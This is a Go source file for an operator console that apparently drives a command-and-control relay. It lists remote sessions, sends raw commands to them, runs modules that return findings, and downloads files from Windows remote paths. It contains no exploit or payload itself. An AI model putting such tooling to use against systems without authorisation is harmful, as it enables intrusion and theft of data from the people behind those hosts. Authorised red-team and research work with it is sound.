package main

import (
	"fmt"
	"strconv"
	"strings"

	shellquote "github.com/kballard/go-shellquote"
	linerpkg "github.com/peterh/liner"
	"github.com/sirupsen/logrus"
)

// Console is the thin line-based operator REPL driving the relay in-process.
type Console struct {
	registry   *Registry
	dispatcher *Dispatcher
	xfer       *TransferService
	db         *Database
	line       *linerpkg.State
}

func NewConsole(registry *Registry, dispatcher *Dispatcher, xfer *TransferService, db *Database) *Console {
	line := linerpkg.NewLiner()
	line.SetCtrlCAborts(true)
	return &Console{registry: registry, dispatcher: dispatcher, xfer: xfer, db: db, line: line}
}

func (c *Console) Close() {
	c.line.Close()
}

// Run processes operator commands until exit.
func (c *Console) Run() {
	defer c.Close()

	for {
		input, err := c.line.Prompt(mainPrompt())
		if err != nil {
			if err == linerpkg.ErrPromptAborted {
				fmt.Println("Use 'exit' to quit")
				continue
			}
			return
		}
		input = strings.TrimSpace(input)
		if input == "" {
			continue
		}
		c.line.AppendHistory(input)

		parts, err := shellquote.Split(input)
		if err != nil {
			parts = strings.Fields(input)
		}
		if len(parts) == 0 {
			continue
		}

		switch parts[0] {
		case "help":
			printMainHelp()
		case "sessions":
			printSessionsTable(c.registry.List())
		case "interact":
			if len(parts) != 2 {
				fmt.Println("Usage: interact <id>")
				continue
			}
			id, err := strconv.Atoi(parts[1])
			if err != nil {
				fmt.Println("Invalid session id")
				continue
			}
			c.interact(id)
		case "transfers":
			c.showTransfers()
		case "history":
			c.showHistory()
		case "exit", "quit":
			return
		default:
			fmt.Printf("Unknown command: %s\n", parts[0])
			fmt.Println("Type 'help' for available commands")
		}
	}
}

// interact drives a single session until the operator detaches or the
// session dies.
func (c *Console) interact(id int) {
	sess, ok := c.registry.Get(id)
	if !ok {
		fmt.Printf("Session %d not found\n", id)
		return
	}
	fmt.Printf("\nInteracting with session %d (%s). Type 'help' for session commands.\n\n", sess.ID, sess.Codename)

	for {
		// The session may have been torn down by a failed exchange or an
		// operator kill from this loop.
		if _, ok := c.registry.Get(id); !ok {
			fmt.Printf("Session %d is gone\n", id)
			return
		}

		input, err := c.line.Prompt(sessionPrompt(sess))
		if err != nil {
			if err == linerpkg.ErrPromptAborted {
				fmt.Println("Use 'background' to detach")
				continue
			}
			return
		}
		input = strings.TrimSpace(input)
		if input == "" {
			continue
		}
		c.line.AppendHistory(input)

		verb, rest := splitVerb(input)
		switch strings.ToLower(verb) {
		case "background":
			return
		case "help":
			printSessionHelp()
		case "modules":
			printModulesList(c.dispatcher)
		case "kill":
			c.registry.Remove(id)
			fmt.Printf("Session %d terminated\n", id)
			return
		case "run":
			if rest == "" {
				fmt.Println("Usage: run <module>")
				continue
			}
			findings, err := c.dispatcher.Run(rest, sess)
			if err != nil {
				fmt.Println(err)
				continue
			}
			printFindings(findings)
		case "download":
			if rest == "" {
				fmt.Println("Usage: download <remote path>")
				continue
			}
			c.download(sess, rest)
		default:
			c.rawCommand(sess, input)
		}
	}
}

// splitVerb separates the first word from the remainder. The remainder is
// kept verbatim: remote paths are Windows style and backslashes must
// survive, so no shell splitting happens here.
func splitVerb(input string) (string, string) {
	parts := strings.SplitN(input, " ", 2)
	if len(parts) == 1 {
		return parts[0], ""
	}
	return parts[0], strings.TrimSpace(parts[1])
}

func (c *Console) rawCommand(sess *Session, input string) {
	if err := c.db.SaveCommand(sess.ID, input); err != nil {
		logrus.Errorf("Error recording command: %v", err)
	}

	out, err := Exchange(sess, input, defaultTimeout)
	if err != nil {
		// A failed write means the socket is dead. Tear the session down;
		// the monitor finishes the cleanup.
		logrus.Errorf("Session %d write failed: %v", sess.ID, err)
		c.registry.Remove(sess.ID)
		return
	}
	fmt.Print(out)
	if out != "" && !strings.HasSuffix(out, "\n") {
		fmt.Println()
	}
}

func (c *Console) download(sess *Session, remotePath string) {
	if err := c.db.SaveCommand(sess.ID, "download "+remotePath); err != nil {
		logrus.Errorf("Error recording command: %v", err)
	}

	res, err := c.xfer.Download(sess, remotePath)
	if err != nil {
		fmt.Printf("Download failed: %v\n", err)
		return
	}
	printTransferResult(res)
}

func (c *Console) showTransfers() {
	transfers, err := c.db.RecentTransfers(50)
	if err != nil {
		fmt.Printf("Failed to load transfers: %v\n", err)
		return
	}
	printTransfersTable(transfers)
}

func (c *Console) showHistory() {
	commands, err := c.db.RecentCommands(20)
	if err != nil {
		fmt.Printf("Failed to load history: %v\n", err)
		return
	}
	if len(commands) == 0 {
		fmt.Println("No commands in history")
		return
	}
	fmt.Printf("\n%s\n", colorize("Command History", colorCyan))
	fmt.Println(strings.Repeat("─", 40))
	for i := len(commands) - 1; i >= 0; i-- {
		cmd := commands[i]
		fmt.Printf("%3d  [session %d] %s\n", len(commands)-i, cmd.SessionID, cmd.Command)
	}
	fmt.Println()
}
